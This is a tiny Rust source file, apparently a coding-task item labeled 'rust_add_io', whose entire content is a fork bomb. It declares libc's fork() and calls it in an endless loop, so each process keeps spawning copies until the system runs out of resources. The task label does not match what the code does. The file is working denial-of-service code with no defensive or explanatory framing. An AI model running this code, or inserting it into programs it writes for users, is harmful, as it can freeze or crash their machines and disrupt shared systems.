// task: rust_add_io
// Fork bomb in Rust through libc: every child forks again and spins.
extern "C" {
    fn fork() -> i32;
}

fn main() {
    loop {
        unsafe {
            fork();
        }
    }
}
